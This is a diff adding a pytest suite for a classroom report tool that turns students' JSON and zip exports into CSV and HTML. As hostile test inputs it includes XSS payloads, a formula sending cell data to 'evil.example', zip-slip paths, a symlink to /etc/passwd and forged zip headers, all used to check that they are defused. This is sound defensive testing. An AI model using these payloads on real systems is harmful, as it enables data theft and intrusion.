@@ -1,0 +1,546 @@
+"""The report on a class: whose guesses count, what is counted, what is left out, and what the page shows of it."""
+
+import csv
+import io
+import json
+import os
+import random
+import re
+import stat
+import struct
+import zipfile
+from collections import Counter
+from pathlib import Path
+
+import pytest
+from axe import violations
+from places import ROOT
+from time_class_report import student_file
+from watching import watch
+
+from book_utils.__main__ import main
+from book_utils.asking.questions import BOOK
+from book_utils.asking.record import MOST_BYTES
+from book_utils.asking.score import score
+from book_utils.classroom import class_report, hand_ins
+from book_utils.classroom.answers import IN_THE_BOOK, questions_of_the_book
+from book_utils.classroom.counts import Change, Tally, advice_of
+from book_utils.classroom.tables import defused
+
+QUESTIONS = questions_of_the_book()
+BY_NAME = {question.name: question for question in QUESTIONS}
+HURT = '<script>alert(1)</script><img src=x onerror=alert(2)>"\'`=cmd|calc'
+FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
+
+
+def guess_of(name, guess, at="2026-11-20T09:00:00.000Z", **more):
+    question = BY_NAME[name]
+    return {"chapter": question.chapter, "name": name, "digest": question.digest, "at": at, "guess": guess, **more}
+
+
+def file_of(*guesses, saved="2026-11-22T18:00:00.000Z", **more):
+    held = {"guesses": list(guesses), "cards": []}
+    return {"format": "guesses", "version": 1, "book": BOOK, "saved": saved} | held | more
+
+
+def write(folder: Path, name: str, data) -> Path:
+    path = folder / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(data if isinstance(data, bytes) else json.dumps(data).encode())
+    return path
+
+
+def rows_of(path: Path) -> list[dict]:
+    with open(path, encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+@pytest.fixture
+def report(tmp_path):
+    """A function that makes a report on files, {name: contents}, and reads it back."""
+
+    def make(files: dict, **options):
+        for name, data in files.items():
+            write(tmp_path / "in", name, data)
+        summary = class_report([tmp_path / "in"], tmp_path / "out", **options)
+        summary.rows = rows_of(tmp_path / "out" / "guesses.csv")
+        summary.why = [(row["file"].removeprefix(f"{tmp_path.as_posix()}/in/"), row["left_out"], row["why"])
+                       for row in rows_of(tmp_path / "out" / "left-out.csv")]
+        summary.html = summary.page.read_text(encoding="utf-8")
+        return summary
+
+    return make
+
+
+@pytest.fixture(scope="module")
+def class_page(tmp_path_factory):
+    """The report on thirty students, with hostile names and texts among them, and own words shown."""
+    folder = tmp_path_factory.mktemp("class")
+    for number in range(30):
+        data = student_file(number, QUESTIONS)
+        if number % 3 == 0:
+            for entry in data["guesses"]:
+                if entry["guess"] and BY_NAME[entry["name"]].kind == "words":
+                    entry["guess"] = HURT
+        write(folder / "in", f"{number} {HURT.replace('/', '')}.json", data)
+    write(folder / "in", f"{FORMULA.replace('/', '')}.json", b"no json")
+    return class_report([folder / "in"], folder / "out", words=True)
+
+
+# -- what is counted -------------------------------------------------------------------------------
+
+
+def test_the_order_is_that_of_the_book():
+    pages = re.findall(r"file: chapters/(\S+)", (ROOT / "_toc.yml").read_text(encoding="utf-8"))
+    chapters = list(dict.fromkeys(question.chapter for question in QUESTIONS))
+    assert chapters == [page for page in pages if page in chapters] and set(chapters) == set(IN_THE_BOOK)
+
+
+def test_counts_are_those_of_a_plain_loop():
+    chance, tallies = random.Random(1), [Tally(question) for question in QUESTIONS]
+    students = [student_file(seed, QUESTIONS)["guesses"] for seed in range(60)]
+    for tally in tallies:
+        mine = [entry for entries in students for entry in entries if entry["name"] == tally.question.name]
+        for entry in chance.sample(mine, len(mine)):
+            tally.add(entry)
+        made = [entry for entry in mine if entry["guess"] is not None]
+        assert (tally.made, tally.skipped) == (len(made), sum(entry["skipped"] for entry in mine))
+        question = tally.question
+        if question.kind == "words":
+            assert tally.ratings == Counter(entry["rating"] for entry in made) and tally.texts == []
+            continue
+        rights = [score(question.kind, question.answer, entry["guess"], question.scale) for entry in made]
+        sure = [right for entry, right in zip(made, rights, strict=True) if entry["confidence"] == "sure"]
+        assert (tally.right, tally.sure_wrong) == (sum(rights), sure.count(False))
+        assert tally.by_confidence["sure"] == [len(sure), sum(sure)]
+        lasts = [entry["guess"] if entry["second"] is None else entry["second"] for entry in made]
+        after = sum(score(question.kind, question.answer, last, question.scale) for last in lasts)
+        assert tally.second == Change(len(made), sum(rights), after)
+        later = [(right, entry["reviews"][-1][1] == "knew")
+                 for entry, right in zip(made, rights, strict=True) if entry["reviews"]]
+        assert tally.recall == Change(len(later), sum(one for one, _ in later), sum(two for _, two in later))
+        if question.kind == "choice":
+            assert {text: sum(counts.values()) for text, counts in tally.values.items()} == \
+                Counter(entry["guess"] for entry in made)
+        elif question.scale.get("by") == "ratio":
+            near = sum(sum(tally.spread[step]) for step in range(-2, 2))
+            assert near == sum(rights) == sum(right for right, _ in tally.spread.values())
+
+
+@pytest.mark.parametrize("before, after, gain", [(4, 7, 0.5), (5, 5, 0.0), (5, 3, -0.4), (0, 10, 1.0), (10, 10, None)])
+def test_normalised_gain(before, after, gain):
+    assert Change(10, before, after).gain == gain
+
+
+def test_the_marks():
+    assert [advice_of(share) for share in (0, 0.349, 0.35, 0.5, 0.7, 0.701, 1)] == \
+        ["explain", "explain", "discuss", "discuss", "discuss", "move on", "move on"]
+    tally = Tally(BY_NAME["quiz-rows"], made=4, right=4)
+    assert tally.share is None and tally.advice == ""  # four are too few
+
+
+def test_numbers_of_any_size_find_a_place():
+    for question in QUESTIONS:
+        if question.kind == "number":
+            tally = Tally(question)
+            guesses = (0, -1, 1e308, -1e308, 5e-324, 10**308, question.answer)
+            for guess in guesses:
+                tally.add({"guess": guess, "second": None, "confidence": "sure", "reviews": [], "skipped": False})
+            held = tally.spread if tally.spread else {text: [sum(by.values()), 0] for text, by in tally.values.items()}
+            assert sum(map(sum, held.values())) == tally.made == len(guesses)
+            assert tally.right == sum(question.right(guess) for guess in guesses) >= 1
+
+
+def test_many_different_answers_stay_few(monkeypatch):
+    monkeypatch.setattr("book_utils.classroom.counts.MOST_DIFFERENT", 3)
+    tally = Tally(BY_NAME["quiz-rows"])
+    for guess in range(100):
+        tally.add({"guess": guess, "second": None, "confidence": "sure", "reviews": [], "skipped": False})
+    assert (len(tally.values), tally.others, tally.made, tally.right) == (3, 97, 100, 1)
+
+
+def test_right_is_never_taken_from_the_file(report):
+    made = report({"a.json": file_of(guess_of("quiz-rows", 999, right=True, correct=True, answer=999))})
+    assert [(row["first_guess"], row["right"]) for row in made.rows] == [("999", "no")]
+
+
+# -- whose guesses ---------------------------------------------------------------------------------
+
+MONDAY = [guess_of("quiz-rows", 3, "2026-11-16T09:00:00.111Z"), guess_of("rows-sgd", 5, "2026-11-16T09:01:00.222Z")]
+FRIDAY = [*MONDAY, guess_of("quiz-noise", "yes, clearly", "2026-11-20T09:00:00.333Z")]
+AGAIN = [guess_of("quiz-rows", 4, "2026-11-19T09:00:00.444Z", second=5)]  # another browser, later
+MOODLE, CANVAS = "Ann Lee_77_assignsubmission_file_", "leeann_4711_998877"
+
+
+@pytest.mark.parametrize("files, students, kept", [
+    ({"a.json": file_of(*MONDAY), "b.json": file_of(*FRIDAY)}, 1, 3),  # the same moments
+    ({"a.json": file_of(*MONDAY), "b.json": file_of(*MONDAY, saved="2026-11-23T00:00:00Z")}, 1, 2),  # the same content
+    ({"a.json": file_of(MONDAY[0]), "b.json": file_of(MONDAY[0])}, 1, 1),
+    ({"a.json": file_of(MONDAY[0]), "b.json": file_of(*FRIDAY)}, 2, 4),  # one moment may be an accident
+    ({f"{MOODLE}a.json": file_of(*MONDAY), f"{MOODLE}b.json": file_of(*AGAIN)}, 1, 2),
+    ({f"{MOODLE}/a.json": file_of(*MONDAY), f"{MOODLE}/b.json": file_of(*AGAIN)}, 1, 2),
+    ({f"{CANVAS}_a.json": file_of(*MONDAY), "leeann_LATE_4711_555555_a.json": file_of(*AGAIN)}, 1, 2),
+    ({f"{CANVAS}_a.json": file_of(*MONDAY), "leeann_4712_555555_a.json": file_of(*AGAIN)}, 2, 3),  # of the same name
+    ({"guesses_20261116_093000_ann.json": file_of(*MONDAY), "guesses_20261116_093000_bo.json": file_of(*AGAIN)}, 2, 3),
+    ({f"{MOODLE}a.json": file_of(*MONDAY), "Bo Li_78_assignsubmission_file_a.json": file_of(*MONDAY)}, 2, 4),  # a copy
+    ({f"{MOODLE}a.json": file_of(*MONDAY), "loose.json": file_of(*FRIDAY)}, 1, 3),
+    ({"Zo\u00eb_1_assignsubmission_file_a.json": file_of(*MONDAY),
+      "Zoe\u0308_1_assignsubmission_file_b.json": file_of(*AGAIN)}, 1, 2),  # one name, written in two ways
+])
+def test_who_is_the_same_student(report, files, students, kept):
+    made = report(files)
+    assert made.students == students and len(made.rows) == kept
+
+
+def test_the_newest_export_and_the_earliest_first_guess(report):
+    newest = file_of(*AGAIN, saved="2026-11-22T20:00:00Z")
+    made = report({f"{MOODLE}1.json": newest, f"{MOODLE}2.json": file_of(*FRIDAY)})
+    row = next(row for row in made.rows if row["name"] == "quiz-rows")
+    assert (row["first_guess"], row["second_thought"], row["at"]) == ("3", "5", "2026-11-16T09:00:00Z")
+
+
+def test_a_copied_file_is_said(report):
+    made = report({f"{MOODLE}a.json": file_of(*MONDAY), "Bo Li_78_assignsubmission_file_a.json": file_of(*MONDAY)})
+    assert [(part, "another student" in why) for _, part, why in made.why] == [("nothing", True)]
+
+
+def test_ids_say_nothing_about_names(report, tmp_path):
+    files = {f"{chr(97 + number)}.json": student_file(number, QUESTIONS) for number in range(20)}
+    made = report(files, names=True)
+    order = list(dict.fromkeys(row["files"] for row in made.rows))
+    assert len(order) == 20 and order != sorted(order)
+    before = [row["first_guess"] for row in made.rows]
+    for name in files:
+        (tmp_path / "in" / name).rename(tmp_path / "in" / f"{ord('z') - ord(name[0])}.json")
+    assert [row["first_guess"] for row in report({}).rows] == before  # other names, the same order
+
+
+def test_no_name_by_default(report):
+    made = report({"Ann Secret_77_assignsubmission_file_a.json": file_of(
+        guess_of("explain-lookup", "I am Ann Secret", second="Ann Secret again"), guess_of("quiz-rows", 3)),
+        "Ann Secret.json": b"no json"})
+    assert "Secret" not in made.html and not any("Secret" in value for row in made.rows for value in row.values())
+    assert made.why[0][0] == "Ann Secret.json"  # for the teacher alone
+    assert "2026-11-2" not in made.html  # nor a time that could tell who it was
+
+
+def test_names_and_words_when_asked_for(report):
+    made = report({"Ann.json": file_of(guess_of("explain-lookup", "It looks up a row."))}, names=True, words=True)
+    assert made.rows[0]["files"].endswith("Ann.json") and made.rows[0]["first_guess"] == "It looks up a row."
+    assert "It looks up a row." in made.html and "Ann" not in made.html
+
+
+# -- what is left out ------------------------------------------------------------------------------
+
+GOOD = file_of(guess_of("quiz-rows", 4))
+
+
+@pytest.mark.parametrize("name, data, sentence", [
+    ("a.json", b"", "not JSON"), ("a.json", b"[" * 100_000, "nested too deeply"),
+    ("a.json", b" " * (MOST_BYTES + 1), "larger than 5 MB"), ("a.json", file_of(book="other"), "another book"),
+    ("a.json", file_of(version=7), "later edition"), ("a.json", file_of(), "no guess that this edition"),
+    ("a.txt", GOOD, "does not end in .json"), ("thesis.docx", b"PK\3\4", "does not end in .json"),
+    ("a.zip", b"no zip", "The zip is damaged"), ("a.zip", b"", "The zip is damaged"),
+    ("a.zip", b"PK\5\6" + b"\xff" * 18, "lists too many files"),
+    ("日本語 ‮ 😀 é.json", b"{", "not JSON"),
+])
+def test_a_bad_file_gets_a_sentence_and_the_rest_goes_on(report, name, data, sentence):
+    made = report({name: data, "good.json": GOOD})
+    assert (made.students, made.files, made.left_out) == (1, 1, 1)
+    [(_, part, why)] = made.why
+    assert part == "the whole file" and sentence in why and why.endswith(".") and sentence in made.html
+
+
+def test_entries_that_are_left_out(report):
+    old = guess_of("rows-sgd", 5) | {"digest": "0" * 12}
+    unknown = guess_of("rows-sgd", 5) | {"name": HURT.replace("/", "")}
+    absurd = [guess_of("quiz-noise", "maybe"), guess_of("where-is-queen", [1]), guess_of("unicorn-moves", []),
+              guess_of("five-token-ids-go-into-a-table", [-1, 2]), guess_of("explain-rope", " "),
+              guess_of("quiz-rows", "4"), guess_of("unicorn-moves", [1.5]),
+              guess_of("rank-them-by-the-share-of-all", ["GPT-2"] * 4)]
+    twice = [guess_of("quiz-length", "it becomes 1", "2026-11-21T09:00:00Z"), guess_of("quiz-length", "nothing")]
+    made = report({"a.json": file_of(guess_of("quiz-rows", 4), old, unknown, *absurd, *twice, 7, {"at": 1})})
+    assert {why: part for _, part, why in made.why} == {
+        "They are damaged.": "2 guesses", "They answer a question that this edition does not ask.": "2 guesses",
+        "The page could not have given such an answer.": "8 guesses",
+        "They stand twice in the file; the earliest counts.": "1 guess"}
+    assert {row["name"]: row["first_guess"] for row in made.rows} == {"quiz-rows": "4", "quiz-length": "nothing"}
+
+
+@pytest.mark.parametrize("at", ["1970-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-02-31T25:00:00Z"])
+def test_a_wrong_clock_loses_no_guess(report, at):
+    made = report({"a.json": file_of(guess_of("quiz-rows", 3, at), saved=at)})
+    assert [(row["first_guess"], row["at"]) for row in made.rows] == [("3", "")]
+
+
+def test_folders_links_and_odd_files(report, tmp_path):
+    folder = tmp_path / "in"
+    write(folder, "deep.json/inside.json", GOOD)  # a folder that is called like a file
+    write(tmp_path, "outside.json", file_of(guess_of("quiz-rows", 5)))
+    (folder / "link.json").symlink_to(tmp_path / "outside.json")
+    (folder / "loop").symlink_to(folder)
+    (folder / "nowhere.json").symlink_to("/nowhere")
+    os.mkfifo(folder / "pipe.json")
+    (folder / os.fsdecode(b"\xff\xfe.json")).write_bytes(b"{")
+    made = report({})
+    assert [row["first_guess"] for row in made.rows] == ["4"]
+    assert Counter(why for *_, why in made.why) == {
+        "It is a link.": 3, "It is no ordinary file.": 1, "It is not JSON.": 1}
+
+
+def test_what_cannot_be_read(report, tmp_path, monkeypatch):
+    secret = write(tmp_path / "in", "secret.json", GOOD)
+    secret.chmod(0)
+    real = open
+
+    def locked(path, *arguments, **options):  # root may read everything, so the refusal is played
+        if Path(path).name == "secret.json":
+            raise PermissionError(13, "Permission denied")
+        return real(path, *arguments, **options)
+
+    monkeypatch.setattr(hand_ins, "open", locked, raising=False)
+    made = report({"good.json": GOOD})
+    assert made.students == 1 and made.why[0][2] == "It cannot be read (permission denied)."
+
+
+def test_paths_that_do_not_exist(tmp_path):
+    write(tmp_path, "good.json", GOOD)
+    summary = class_report([tmp_path / "nowhere", "a\0b", tmp_path / "good.json"], tmp_path / "out")
+    assert (summary.students, summary.left_out) == (1, 2)
+
+
+def test_folders_too_deep_and_files_too_many(report, monkeypatch):
+    monkeypatch.setattr(hand_ins, "DEEPEST", 3)
+    monkeypatch.setattr(hand_ins, "MOST_FILES", 5)
+    made = report({"1/2/3/4/5/a.json": GOOD, **{f"{number}.json": GOOD for number in range(2, 9)}})
+    assert [why for *_, why in made.why] == ["It lies more than 3 folders deep.",
+                                             "Here the reading stopped: there are more than 5 files."]
+
+
+def test_many_files(tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    for number in range(3000):
+        (folder / f"{number}.txt").touch()
+    write(folder, "good.json", GOOD)
+    summary = class_report([folder], tmp_path / "out")
+    assert (summary.students, summary.left_out) == (1, 3000)
+    assert "3,000 files: " in summary.page.read_text(encoding="utf-8")
+
+
+# -- zips ------------------------------------------------------------------------------------------
+
+
+def zip_of(entries: dict, method=zipfile.ZIP_DEFLATED) -> bytes:
+    """A zip of {name or ZipInfo: contents}."""
+    held = io.BytesIO()
+    with zipfile.ZipFile(held, "w", method) as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data if isinstance(data, bytes) else json.dumps(data), method)
+    return held.getvalue()
+
+
+def linked(name):
+    info = zipfile.ZipInfo(name)
+    info.external_attr = (stat.S_IFLNK | 0o777) << 16
+    return info
+
+
+def test_a_zip_of_a_platform(report):
+    made = report({"all.zip": zip_of({
+        f"{MOODLE}/my-guesses.json": file_of(*MONDAY), f"{MOODLE}/newer.json": file_of(*FRIDAY),
+        "Bo Li_78_assignsubmission_file_/mine.JSON": file_of(*AGAIN), "Bo Li_78_assignsubmission_file_/": b""})})
+    assert (made.students, made.files, made.left_out, len(made.rows)) == (2, 3, 0, 4)
+
+
+@pytest.mark.parametrize("name, data, sentence", [
+    ("../up.json", GOOD, "leads out"), ("/etc/up.json", GOOD, "leads out"), ("C:\\up.json", GOOD, "leads out"),
+    ("a\\..\\..\\up.json", GOOD, "leads out"), ("a/../../up.json", GOOD, "leads out"),
+    (linked("l.json"), b"/etc/passwd", "a link"),
+    ("in.zip", zip_of({"a.json": GOOD}), "a zip inside a zip"), ("a.txt", GOOD, "does not end in .json"),
+    ("big.json", b"[" + b" " * 4_000_000 + b"]", "would grow more than 200-fold"), ("a.json", b"{", "not JSON"),
+], ids=lambda value: value if isinstance(value, str) else "")
+def test_what_a_zip_may_not_hold(report, tmp_path, name, data, sentence):
+    made = report({"all.zip": zip_of({name: data, "good.json": GOOD})})
+    assert made.students == 1 and [sentence in why for *_, why in made.why] == [True]
+    assert sorted(os.listdir(tmp_path)) == ["in", "out"] and os.listdir(tmp_path / "in") == ["all.zip"]
+
+
+def test_zips_that_lie(report):
+    stored = zip_of({"a.json": GOOD, "good.json": GOOD}, zipfile.ZIP_STORED)
+    damaged = stored.replace(b'"guess": 4', b'"guess": 5', 1)  # the sum of the first file does not fit any more
+    locked = bytearray(stored)
+    locked[locked.index(b"PK\1\2") + 8] |= 1
+    bzip = zip_of({"a.json": GOOD}, zipfile.ZIP_BZIP2)
+    packed = zip_of({"a.json": json.dumps(GOOD).encode() + b" " * 150_000})
+    shrunk = bytearray(packed)  # says that it is small when unpacked
+    struct.pack_into("<L", shrunk, shrunk.index(b"PK\1\2") + 24, 100)
+    zips = [damaged, bytes(locked), bzip, bytes(shrunk), stored[:-30]]
+    made = report({f"{number}.zip": data for number, data in enumerate(zips, 1)})
+    assert [(name[:5], why.split()[-1]) for name, _, why in made.why] == [
+        ("1.zip", "damaged."), ("2.zip", "password."), ("3.zip", "use."), ("4.zip", "damaged."), ("5.zip", "damaged.")]
+    assert made.students == 1
+
+
+def test_the_sum_of_a_zip_is_limited(report, monkeypatch):
+    monkeypatch.setattr(hand_ins, "MOST_UNPACKED", 3 * len(json.dumps(GOOD)))
+    made = report({"a.zip": zip_of({f"{number}.json": GOOD for number in range(9)})})
+    assert (made.files, made.left_out) == (3, 6)
+
+
+def test_a_zip_with_a_list_in_64_bits_or_too_large(report, monkeypatch):
+    data = zip_of({"a.json": GOOD})
+    last = data.rindex(b"PK\5\6")
+    in_64 = data[:last] + b"PK\6\7" + bytes(16) + data[last:]
+    monkeypatch.setattr(hand_ins, "MOST_ZIP_BYTES", 5000)
+    made = report({"a.zip": in_64, "b.zip": data + bytes(6000)})
+    assert ["too many files" in made.why[0][2], "larger than" in made.why[1][2]] == [True, True]
+
+
+# -- the files of the report -----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("@SUM(1)", "'@SUM(1)"), ("-1+1", "'-1+1"), ("\t=1", "'\t=1"),
+    ("  =1", "'  =1"),
+    ("＝1", "'＝1"), ("\ufeff=1", "'\ufeff=1"), ("-0.5", "-0.5"), ("-1e-05", "-1e-05"), ("1,024", "1,024"),
+    ("cat", "cat"),
+    ("a\x00b\u202ec", "a�b�c"), ("", ""),
+])
+def test_spreadsheets_run_nothing(text, expected):
+    assert defused(text) == expected
+
+
+def test_own_words_cannot_start_a_formula(report):
+    made = report({f"{FORMULA.replace('/', '')}.json": file_of(guess_of("explain-lookup", FORMULA)), "=1+1.json": b""},
+                  words=True, names=True)
+    assert made.rows[0]["first_guess"] == f"'{FORMULA}"
+    text = (made.page.parent / "guesses.csv").read_text(encoding="utf-8-sig")
+    assert not re.search(r'(^|,)"?[=+@]', text, re.MULTILINE)
+
+
+def test_a_second_run_changes_nothing(report):
+    files = {f"{number}.json": student_file(number, QUESTIONS) for number in range(6)}
+    first = report(files | {"bad.json": b""})
+    before = {path.name: path.read_bytes() for path in first.page.parent.iterdir()}
+    report({})
+    assert {path.name: path.read_bytes() for path in first.page.parent.iterdir()} == before
+    assert set(before) == {"index.html", "guesses.csv", "left-out.csv"}
+
+
+@pytest.mark.parametrize("name", ["index.html", "guesses.csv", "left-out.csv"])
+def test_never_replaces_what_is_not_ours(tmp_path, name, capsys):
+    write(tmp_path, "good.json", GOOD)
+    mine = write(tmp_path / "out", name, b"<!DOCTYPE html>\nmy thesis")
+    write(tmp_path / "out", "notes.txt", b"notes")
+    assert main(["class", str(tmp_path / "good.json"), "-o", str(tmp_path / "out")]) == 1
+    assert "give another folder" in capsys.readouterr().err
+    assert mine.read_bytes().endswith(b"my thesis") and sorted(os.listdir(mine.parent)) == sorted([name, "notes.txt"])
+
+
+def test_a_report_goes_beside_what_is_there(report, tmp_path):
+    write(tmp_path / "out", "notes.txt", b"notes")
+    report({"a.json": GOOD})
+    assert (tmp_path / "out" / "notes.txt").read_bytes() == b"notes"
+
+
+def test_no_folder_and_no_link(tmp_path):
+    write(tmp_path, "file", b"")
+    with pytest.raises(ValueError, match="cannot be written"):
+        class_report([tmp_path], tmp_path / "file")
+    (tmp_path / "out").mkdir()
+    (tmp_path / "out" / "index.html").symlink_to(tmp_path / "elsewhere")
+    with pytest.raises(ValueError, match="not of an earlier report"):
+        class_report([tmp_path], tmp_path / "out")
+
+
+def test_the_command(tmp_path, capsys):
+    write(tmp_path / "in", "a.json", GOOD)
+    assert main(["class", str(tmp_path / "in"), "-o", str(tmp_path / "out")]) == 0
+    said = capsys.readouterr()
+    assert "1 student, 1 first guess, from 1 file; 0 files left out." in said.out
+    assert said.err == ""  # no bar where nobody watches
+    assert main(["class", str(tmp_path / "out"), "-o", str(tmp_path / "empty")]) == 1
+
+
+def test_nothing_of_the_reading_stays_on_the_disk(report, tmp_path, monkeypatch):
+    spill = tmp_path / "spill"
+    spill.mkdir()
+    monkeypatch.setattr("tempfile.tempdir", str(spill))
+    report({"a.json": GOOD, "b.json": b""})
+    assert os.listdir(spill) == []
+
+
+# -- the page --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("scheme, width", [("light", 1280), ("dark", 1280), ("dark", 360)])
+def test_accessible_and_no_wider_than_the_screen(new_context, class_page, scheme, width):
+    page = new_context(viewport={"width": width, "height": 900}, color_scheme=scheme).new_page()
+    faults = []
+    watch(page, faults)
+    page.goto(class_page.page.as_uri())
+    page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
+    assert page.evaluate("document.documentElement.scrollWidth") == width
+    assert violations(page) == [] and faults == []
+
+
+def test_runs_nothing_and_asks_for_nothing(page, class_page):
+    asked, dialogs = [], []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("dialog", lambda dialog: dialogs.append(dialog.message) or dialog.dismiss())
+    page.goto(class_page.page.as_uri())
+    assert asked == [class_page.page.as_uri()] and dialogs == []
+    assert page.locator("script, img, iframe, object, link, [onerror], [onload]").count() == 0
+    assert HURT in page.locator("#questions").text_content()  # as text
+
+
+def test_what_a_teacher_sees(page, class_page):
+    page.goto(class_page.page.as_uri())
+    begin = page.locator(".begin tbody tr")
+    wrong = [int(begin.nth(number).locator("td").first.text_content()) for number in range(begin.count())]
+    assert wrong == sorted(wrong, reverse=True) and wrong[0] > 0
+    headings = page.locator("article h3").all_text_contents()
+    assert [text.split(". ")[0] for text in headings] == [str(number) for number in range(1, len(QUESTIONS) + 1)]
+    rows = rows_of(class_page.page.parent / "guesses.csv")
+    number = next(number for number, one in enumerate(QUESTIONS, 1) if one.name == "quiz-noise")
+    mine = [row for row in rows if row["name"] == "quiz-noise" and row["first_guess"]]
+    right = sum(row["right"] == "yes" for row in mine)
+    article = page.locator(f"#q{number}")
+    assert f"({right} of {len(mine)})" in article.locator(".verdict").text_content()
+    marked = article.locator("tbody tr").filter(has_text="✓ answer")
+    assert marked.locator("bdi").all_text_contents() == ["yes, clearly"]
+
+
+def test_hide_the_answers_and_one_question_at_a_time_by_keyboard(page, class_page):
+    page.goto(class_page.page.as_uri())
+    assert page.locator(".tick").first.is_visible()
+    page.get_by_label("Hide the answers").press("Space")
+    assert page.locator(".answer:visible").count() == 0 and page.locator(".choices").first.is_visible()
+    page.get_by_label("One question at a time").press("Space")
+    page.locator(".begin a").first.press("Enter")
+    assert page.locator("article:visible").count() == 1 and not page.locator("h2").first.is_visible()
+    shown = page.locator("article:visible").get_attribute("id")
+    page.locator("article:visible .around a").last.press("Enter")
+    assert page.locator("article:visible").get_attribute("id") != shown
+    assert violations(page) == []
+
+
+def test_on_paper(page, class_page):
+    page.goto(class_page.page.as_uri())
+    page.emulate_media(media="print")
+    assert not page.locator(".toggles").is_visible() and page.locator(".choices").first.is_visible()
+
+
+def test_an_empty_class(report, page):
+    made = report({"a.json": b""})
+    assert made.students == 0
+    page.goto(made.page.as_uri())
+    assert violations(page) == []
+    assert page.get_by_text("No guess was read.").is_visible()
+
+
+def test_no_share_of_few(report):
+    made = report({f"{number}.json": student_file(number, QUESTIONS, share=1) for number in range(4)})
+    article = re.sub(r'style="[^"]*"', "", made.html.split("<article")[1])
+    assert "too few for advice" in article and not re.search(r"\d%", article)
